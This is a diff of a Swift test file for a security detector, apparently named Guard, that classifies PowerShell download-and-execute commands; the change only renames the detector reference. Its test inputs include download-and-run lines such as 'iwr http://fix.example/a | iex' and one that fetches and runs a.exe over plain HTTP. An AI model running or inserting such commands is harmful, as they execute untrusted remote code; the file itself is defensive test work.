@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.downloadIntoPowerShell`.
 struct DownloadIntoPowerShellTests {
   @Test(arguments: [
     "iwr http://fix.example/a | iex",
@@ -11,7 +12,7 @@ struct DownloadIntoPowerShellTests {
     #"powershell -c "iwr http://fix.example/a.exe -OutFile a.exe; .\a.exe""#,
   ])
   func `a script over an unprotected connection into PowerShell is held`(text: String) {
-    #expect(DownloadIntoPowerShell.severity(of: text) == .hold)
+    #expect(Signal.downloadIntoPowerShell.severity(of: text) == .hold)
   }
 
   @Test(arguments: [
@@ -20,7 +21,7 @@ struct DownloadIntoPowerShellTests {
     #"powershell -c "irm bun.sh/install.ps1 | iex""#,
   ])
   func `a script over a protected connection is noticed`(text: String) {
-    #expect(DownloadIntoPowerShell.severity(of: text) == .notice)
+    #expect(Signal.downloadIntoPowerShell.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
@@ -30,6 +31,6 @@ struct DownloadIntoPowerShellTests {
     "Invoke-RestMethod https://api.example.com/items | Select-Object name",
   ])
   func `downloads that are not run are harmless`(text: String) {
-    #expect(DownloadIntoPowerShell.severity(of: text) == nil)
+    #expect(Signal.downloadIntoPowerShell.severity(of: text) == nil)
   }
 }
